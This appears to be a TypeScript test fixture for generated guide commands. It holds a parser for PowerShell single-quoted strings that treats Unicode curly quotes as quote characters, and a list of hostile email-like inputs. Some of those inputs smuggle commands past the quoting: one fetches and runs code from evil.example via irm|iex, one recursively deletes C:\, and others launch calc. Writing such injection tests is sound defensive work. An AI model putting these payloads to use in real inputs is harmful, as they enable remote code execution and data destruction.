// A reader of PowerShell's verbatim strings, to check what the guides' commands say, and addresses that
// try to break out of them.
/**
 * PowerShell reads five characters as a single quote (U+0027 and U+2018–U+201B); inside a verbatim
 * string any two of them in a row are one literal quote. A reader of that grammar, to check the output.
 */
const QUOTE = /['\u2018\u2019\u201A\u201B]/;
export function readVerbatimString(source: string): { value: string; rest: string } {
  if (!QUOTE.test(source[0] ?? "")) throw new Error("not a single-quoted string");
  let value = "";
  for (let i = 1; i < source.length; i++) {
    const c = source[i]!;
    if (!QUOTE.test(c)) {
      value += c;
      continue;
    }
    if (QUOTE.test(source[i + 1] ?? "")) {
      value += c;
      i++;
      continue;
    }
    return { value, rest: source.slice(i + 1) };
  }
  throw new Error("unterminated string");
}

export const HOSTILE = [
  "plain@contoso.com",
  "o'brien@contoso.com",
  "a';irm(https://evil.example)|iex;'@contoso.com",
  "a’;irm(https://evil.example)|iex;’@contoso.com",
  "a‘;Remove-Item -Recurse C:\\;‘",
  "a‚;calc;‚",
  "a‛;calc;‛",
  "’’’",
  "'’‘‚‛",
  "$(Invoke-Expression 'calc')",
  "`$env:PATH`",
  '"; calc; "',
  "",
];
